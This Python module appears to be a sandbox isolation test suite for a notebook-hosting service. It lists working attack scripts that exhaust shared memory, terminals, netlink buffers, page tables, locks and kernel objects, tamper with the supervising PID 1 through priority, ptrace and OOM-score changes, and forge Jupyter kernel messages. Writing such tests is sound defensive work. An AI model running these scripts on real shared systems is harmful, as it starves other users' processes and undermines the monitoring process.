"""Attacks on those who share the machine: on the neighbours' kernels, on the supervisor, and through memory that no
process has.
"""

from __future__ import annotations

from attack import breaking

_IGNORE = "import signal\nfor one in (2, 15, 1): signal.signal(one, signal.SIG_IGN)\n"
HARMING = (
    breaking(
        "forked-memory",
        "make the supervisor slow: much memory, all of it shared with children, and deaf to interrupts",
        _IGNORE
        + """
import ctypes, os, time
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
size = 600 * 2**20
place = libc.mmap(None, ctypes.c_size_t(size), 3, 0x22, -1, 0)
libc.madvise(ctypes.c_void_p(place), ctypes.c_size_t(size), 15)
ctypes.memset(place, 1, size)
for _ in range(140):
    try:
        if os.fork() == 0:
            while True: time.sleep(1000)
    except OSError: break
while True: time.sleep(1)
""",
        status="incomplete",
    ),
    breaking(
        "supervisor",
        "slow down or limit the process that watches",
        """
        import ctypes, os, resource
        libc = ctypes.CDLL(None, use_errno=True)
        def attempt(what, work):
            try: work()
            except OSError: print(what, "refused")
            else: print(what, "CHANGED")
        attempt("affinity", lambda: os.sched_setaffinity(1, {0}))
        attempt("idle", lambda: os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0)))
        attempt("nice", lambda: os.setpriority(os.PRIO_PROCESS, 1, 19))
        attempt("nice for all", lambda: os.setpriority(os.PRIO_USER, 0, 19))
        attempt("limits", lambda: resource.prlimit(1, resource.RLIMIT_NOFILE))
        attempt("memory", lambda: open("/proc/1/mem"))
        attempt("adjustment", lambda: open("/proc/1/oom_score_adj", "w").write("1000"))
        print("tracing", "refused" if libc.ptrace(16, 1, 0, 0) else "CHANGED")
        """,
    ),
    breaking(
        "terminals",
        "use up every pseudo-terminal of the machine",
        """
        import os, pty
        held = []
        try:
            while True: held.append(pty.openpty())
        except OSError as error: print(len(held), error)
        import time
        time.sleep(3)
        """,
    ),
    breaking(
        "huge-pages-in-pipes",
        "keep huge pages in pipes, of which each holds one small page",
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        libc.mmap.restype, libc.vmsplice.restype = ctypes.c_void_p, ctypes.c_ssize_t
        class Piece(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
        huge, pinned, pipes = 2**21, 0, []
        for _ in range(45):
            pipes.append(os.pipe())
            for _ in range(16):
                place = libc.mmap(None, ctypes.c_size_t(2 * huge), 3, 0x22, -1, 0)
                first = (place + huge - 1) // huge * huge
                libc.madvise(ctypes.c_void_p(first), ctypes.c_size_t(huge), 14)
                ctypes.memset(first, 1, huge)
                piece = Piece(first, 4096)
                pinned += libc.vmsplice(pipes[-1][1], ctypes.byref(piece), 1, 2) == 4096
                libc.munmap(ctypes.c_void_p(place), ctypes.c_size_t(2 * huge))
        print("HELD" if pinned else "refused")
        """,
    ),
    breaking(
        "messages-to-itself",
        "take memory in sockets of a family that carries messages of users",
        """
        import socket
        held, size, piece = [], 0, bytes(150_000)
        try:
            while size < 1_450_000_000:
                one = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 2)
                one.bind((0, 0))
                one.setblocking(False)
                for side in (socket.SO_RCVBUF, socket.SO_SNDBUF): one.setsockopt(socket.SOL_SOCKET, side, 2**26)
                held.append(one)
                try:
                    while True: one.sendto(piece, (one.getsockname()[0], 0)); size += len(piece)
                except BlockingIOError: pass
        except OSError: pass
        print("HELD" if size > 2**20 else "refused")
        """,
    ),
    breaking(
        "answers-unread",
        "take memory in answers of the kernel that nobody reads",
        """
        import os, socket, struct, time
        held = []
        ask = struct.pack("<IHHIIBxxx", 20, 18, 0x301, 1, 0, 0)
        for _ in range(3): os.fork()
        try:
            while True:
                held.append(socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0))
                held[-1].setblocking(False)
                for _ in range(3): held[-1].send(ask)
        except OSError: pass
        time.sleep(5)
        """,
        note="more than 1024 MB of memory",
        status="incomplete",
    ),
    breaking(
        "page-tables",
        "take memory in the tables of a mapping that holds nothing",
        """
        import ctypes, time
        import numpy as np
        libc = ctypes.CDLL(None)
        libc.mmap.restype = ctypes.c_void_p
        size = 700 * 2**30
        place = libc.mmap(None, ctypes.c_size_t(size), 1, 0x4022, -1, 0)
        libc.madvise(ctypes.c_void_p(place), ctypes.c_size_t(size), 15)
        int(np.frombuffer((ctypes.c_ubyte * size).from_address(place), "u1")[::2**21].sum())
        time.sleep(4)
        """,
        note="more than 1024 MB of memory",
        status="incomplete",
    ),
    breaking(
        "kernel-objects",
        "take what the machine has a fixed number of: requests, keys, watches, queues, files without a name",
        """
        import ctypes, platform
        libc = ctypes.CDLL(None, use_errno=True)
        calls = {"io_setup": (206, 0), "io_uring_setup": (425, 425), "add_key": (248, 217), "keyctl": (250, 219),
                 "inotify_init1": (294, 26), "fanotify_init": (300, 262), "mq_open": (240, 180), "shmget": (29, 194),
                 "semget": (64, 190), "msgget": (68, 186), "memfd_create": (319, 279), "userfaultfd": (323, 282),
                 "vmsplice": (278, 75), "unshare": (272, 97)}
        at = platform.machine() == "aarch64"
        context = ctypes.c_ulong(0)
        for name, numbers in calls.items():
            outcome = libc.syscall(numbers[at], 1000, ctypes.byref(context), 0, 0)
            print(name, "refused" if outcome == -1 and ctypes.get_errno() == 1 else f"DONE {outcome}")
        """,
    ),
    breaking(
        "families",
        "sockets of families that no notebook needs",
        """
        import socket
        for family in (10, 15, 17, 21, 26, 29, 38, 40, 44):
            try: socket.socket(family, socket.SOCK_RAW if family != 40 else socket.SOCK_STREAM)
            except OSError as error: print(family, error.errno)
            else: print(family, "OPENED")
        """,
    ),
    breaking(
        "locks",
        "take memory in locks of single bytes of files",
        """
        import fcntl, os, struct
        try:
            for name in range(3000):
                file = os.open(f"l{name}", os.O_RDWR | os.O_CREAT)
                for byte in range(0, 2000, 2):
                    fcntl.fcntl(file, fcntl.F_SETLK, struct.pack("hhqqixxxx", 1, 0, byte, 1, 0))
        except OSError as error: print(error)
        import time
        time.sleep(3)
        """,
        note="more than 1024 MB of memory",
        status="incomplete",
    ),
    breaking(
        "amplified-display",
        "120 displays of one name, and then one update of 900 kB",
        """
        import time
        kernel = get_ipython().kernel
        def send(kind, data):
            content = {"data": data, "metadata": {}, "transient": {"display_id": "d"}}
            kernel.session.send(kernel.iopub_socket, kind, content, parent=kernel.get_parent())
        for number in range(120):
            send("display_data", {})
            if number % 5 == 0: time.sleep(0.05)
        time.sleep(0.5)
        send("update_display_data", {"text/plain": "y" * 900_000})
        """,
        note="the rest of its output was cut",
    ),
    breaking(
        "nameless-error",
        "an error that has no name",
        """
        kernel = get_ipython().kernel
        original = type(kernel).do_execute
        async def forged(self, *arguments, **named):
            await original(self, *arguments, **named)
            return {"status": "error", "ename": "", "evalue": "", "traceback": []}
        type(kernel).do_execute = forged
        """,
    ),
)
